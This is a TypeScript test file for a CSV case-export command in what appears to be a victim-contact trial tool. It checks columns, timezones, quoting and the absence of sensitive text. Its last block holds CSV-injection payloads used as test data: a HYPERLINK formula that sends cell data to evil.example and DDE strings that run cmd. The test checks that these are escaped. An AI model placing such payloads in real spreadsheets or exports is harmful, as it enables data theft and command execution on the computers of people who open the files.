import { mkdtempSync, readFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createServices } from "../../../src/services.js";
import { loadConfig } from "../../../src/config/env.js";
import { FixedClock } from "../../../src/domain/clock.js";
import type { Caller } from "../../../src/domain/people/roles.js";
import { createLogger } from "../../../src/log.js";
import { runCli } from "../../helpers/cli.js";
import { WARDS, caseCsv, importCases, seedWards } from "../../helpers/seed.js";
import { createTestDatabase, type TestDatabase } from "../../helpers/testDb.js";
import { completionForm } from "../../helpers/contactForms.js";

const HEADER =
  "crime_ref,ward_code,borough,allocation_method,arm,allocated_at,stratum,referral_status,delivered,claimed_at,contact_method,contact_at,closed_at,outcome_code,outcome_date,attrition,charge,positive,excluded";
const COMMA_BOROUGH = "Kingston, upon Thames";
const OFFICER: Caller = { aadObjectId: "00000000-0000-4000-8000-0000000000f1", teamsUserId: "29:olu", displayName: "Olu Officer", roles: new Set(["officer"]) };
const AFTER_REASON = "victim moved to Leeds, see notes";
const BEFORE_REASON = "duplicate of 1000001/24 typed twice";
// Reported an hour apart from 1 March: all before the clock, and more than one export batch (500).
const BULK = 700;

describe("reassure export cases", () => {
  let db: TestDatabase;
  let dir: string;
  /** `reassure export cases` to stdout, run once on the seeded database. */
  let exported: { code: number; stdout: string; stderr: string };
  const env = () => ({ DATABASE_URL: db.url, LOG_LEVEL: "silent" });

  // Cases 1000000/24… in Balham (rollout), Abbey, Canbury (a borough with a comma), Kew (off), Tooting, Colliers Wood;
  // an incident; one case excluded before and one after randomisation; 700 more in Kew, so the export takes batches.
  beforeAll(async () => {
    db = await createTestDatabase("sqlite");
    dir = mkdtempSync(join(tmpdir(), "reassure-export-"));
    const clock = new FixedClock(new Date("2024-04-02T09:00:00Z"));
    const deps = createServices(loadConfig(env()), db.store, createLogger("silent"), clock);
    await seedWards(deps, [...WARDS, { code: "E05000009", name: "Canbury", borough: COMMA_BOROUGH, mode: "trial" }]);
    await importCases(
      deps,
      caseCsv(6, {
        wards: ["E05000004", "E05000001", "E05000009", "E05000005", "E05000003", "E05000002"],
        extra: ["1000010/24,2024-03-01T12:00:00Z,E05000001,incident,", "1000011/24,2024-03-01T13:00:00Z,E05000001,crime,harassment"],
      }),
    );
    expect((await importCases(deps, caseCsv(BULK, { start: 100, wards: ["E05000005"] }))).created).toBe(BULK);
    expect(await deps.allocation.exclude("1000011/24", BEFORE_REASON, "test")).toBe("excluded-before-randomisation");
    await deps.allocation.allocate({ actor: "test" });
    expect(await deps.allocation.exclude("1000004/24", AFTER_REASON, "test")).toBe("excluded");

    const referralId = (await db.store.repos.reporting.referralFacts({})).find((r) => r.crimeRef === "1000000/24")!.referralId;
    await db.store.transaction((tx) => tx.referralCards.markPosted(referralId, { channelId: "19:c", conversationId: "19:c;messageid=1", activityId: "1", serviceUrl: "http://x" }, clock.now()));
    await deps.roles.grant({ aadObjectId: OFFICER.aadObjectId!, displayName: OFFICER.displayName }, "officer", "test");
    clock.set(new Date("2024-04-02T10:00:00Z"));
    let version = (await db.store.repos.referrals.get(referralId))!.version;
    expect((await deps.referrals.claim(referralId, version, OFFICER)).kind).toBe("changed");
    clock.set(new Date("2024-04-02T10:45:00Z"));
    version = (await db.store.repos.referrals.get(referralId))!.version;
    const completed = await deps.referrals.complete(referralId, version, OFFICER, completionForm({
      method: "phone",
      contactDate: "2024-04-02",
      contactTime: "11:30",
      riskAssessment: "completed_now",
      supportReferral: "victim_support",
      wantsStatement: "no",
      notes: "Spoke to the victim at home",
    }));
    expect(completed.kind).toBe("changed");
    clock.set(new Date("2024-05-01T09:00:00Z"));
    const outcomes = await deps.outcomes.importCsv(["crime_ref,outcome_code,outcome_date\n1000000/24,16,2024-04-20\n1000001/24,1,2024-04-21\n"], { actor: "test", source: "test", skipInvalid: false });
    expect(outcomes.recorded).toBe(2);
    exported = await runCli(["export", "cases"], env());
  });
  afterAll(() => db.dispose());

  const rowsOf = (csv: string) => parse(csv, { columns: true }) as Record<string, string>[];

  it("writes one row per case with exactly the agreed columns", () => {
    const { code, stdout, stderr } = exported;
    expect(code, stderr).toBe(0);
    expect(stdout.split("\n")[0]).toBe(HEADER);
    const rows = rowsOf(stdout);
    expect(rows).toHaveLength(6 + 2 + BULK);
    expect(new Set(rows.map((r) => r.crime_ref)).size).toBe(rows.length);
    expect(rows.map((r) => r.crime_ref).slice(0, 3)).toEqual(["1000000/24", "1000001/24", "1000002/24"]);
  });

  it("gives a delivered rollout case's allocation, contact and outcome, in UTC", () => {
    const rows = rowsOf(exported.stdout);
    expect(rows.find((r) => r.crime_ref === "1000000/24")).toEqual({
      crime_ref: "1000000/24",
      ward_code: "E05000004",
      borough: "Wandsworth",
      allocation_method: "rollout",
      arm: "SRC",
      allocated_at: "2024-04-02T09:00:00.000Z",
      stratum: "",
      referral_status: "completed",
      delivered: "1",
      claimed_at: "2024-04-02T10:00:00.000Z",
      contact_method: "phone",
      // 11:30 in London is 10:30 UTC in April (BST).
      contact_at: "2024-04-02T10:30:00.000Z",
      closed_at: "2024-04-02T10:45:00.000Z",
      outcome_code: "16",
      // Outcome dates are midnight London time.
      outcome_date: "2024-04-19T23:00:00.000Z",
      attrition: "1",
      charge: "0",
      positive: "0",
      excluded: "",
    });
    const charged = rows.find((r) => r.crime_ref === "1000001/24")!;
    expect(charged).toMatchObject({ allocation_method: "randomised", stratum: "borough:Merton", outcome_code: "1", attrition: "0", charge: "1", positive: "1" });
    expect(["SRC", "BAU"]).toContain(charged.arm);
    expect(charged.referral_status === "").toBe(charged.arm === "BAU");
  });

  it("lists unallocated and excluded cases, by category only", () => {
    const rows = rowsOf(exported.stdout);
    const byRef = new Map(rows.map((r) => [r.crime_ref, r]));
    expect(byRef.get("1000003/24")).toMatchObject({ ward_code: "E05000005", borough: "Richmond", allocation_method: "", arm: "", allocated_at: "", delivered: "", outcome_code: "", attrition: "", excluded: "" });
    expect(byRef.get("1000010/24")).toMatchObject({ arm: "", excluded: "non-crime hate incident" });
    expect(byRef.get("1000011/24")).toMatchObject({ arm: "", excluded: "excluded before randomisation" });
    expect(byRef.get("1000004/24")).toMatchObject({ allocation_method: "randomised", excluded: "excluded after randomisation" });
    expect(byRef.get("1000004/24")!.arm).toMatch(/^(SRC|BAU)$/);
  });

  it("quotes a field holding a comma", () => {
    const { stdout } = exported;
    const line = stdout.split("\n").find((l) => l.startsWith("1000002/24,"))!;
    expect(line).toContain(`,"${COMMA_BOROUGH}",`);
    expect(line).toContain(`,"borough:${COMMA_BOROUGH}",`);
    expect(rowsOf(stdout).find((r) => r.crime_ref === "1000002/24")).toMatchObject({ ward_code: "E05000009", borough: COMMA_BOROUGH, stratum: `borough:${COMMA_BOROUGH}` });
  });

  it("holds no offence, strand, note, officer or exclusion text", () => {
    const { stdout } = exported;
    for (const forbidden of ["public order", "harassment", "offence", "strand", "notes", "Spoke to the victim", "Olu", OFFICER.aadObjectId!, AFTER_REASON, BEFORE_REASON, "Leeds", "typed twice"]) {
      expect(stdout, forbidden).not.toContain(forbidden);
    }
  });

  it("writes the same to a file with --out", async () => {
    const file = join(dir, "cases.csv");
    const written = await runCli(["export", "cases", "--out", file], env());
    expect(written.code, written.stderr).toBe(0);
    expect(written.stdout.trim()).toBe(`Wrote ${6 + 2 + BULK} case(s) to ${file}.`);
    expect(readFileSync(file, "utf8")).toBe(exported.stdout);
    const nowhere = await runCli(["export", "cases", "--out", join(dir, "missing", "cases.csv")], env());
    expect(nowhere.code).toBe(1);
    expect(nowhere.stderr).toContain("ENOENT");
  });
});

// OWASP CSV injection: what a spreadsheet would run as a formula must arrive as text.
const HOSTILE_BOROUGHS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"];

describe("reassure export cases with hostile ward data", () => {
  let db: TestDatabase;
  beforeAll(async () => {
    db = await createTestDatabase("sqlite");
    const deps = createServices(loadConfig({ DATABASE_URL: db.url, LOG_LEVEL: "silent" }), db.store, createLogger("silent"), new FixedClock(new Date("2024-04-02T09:00:00Z")));
    const wards = HOSTILE_BOROUGHS.map((borough, i) => ({ code: `E0510000${i}`, name: `Ward ${i}`, borough, mode: "rollout" as const }));
    await seedWards(deps, wards);
    expect((await importCases(deps, caseCsv(wards.length, { wards: wards.map((w) => w.code) }))).created).toBe(wards.length);
  });
  afterAll(() => db.dispose());

  it("writes every cell that begins with = + - @ tab or carriage return behind a quote, so it opens as text", async () => {
    const { code, stdout, stderr } = await runCli(["export", "cases"], { DATABASE_URL: db.url, LOG_LEVEL: "silent" });
    expect(code, stderr).toBe(0);
    const rows = parse(stdout, { columns: true }) as Record<string, string>[];
    expect(rows.map((r) => r.borough).sort()).toEqual(HOSTILE_BOROUGHS.map((b) => `'${b}`).sort());
    for (const row of rows) for (const cell of Object.values(row)) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});
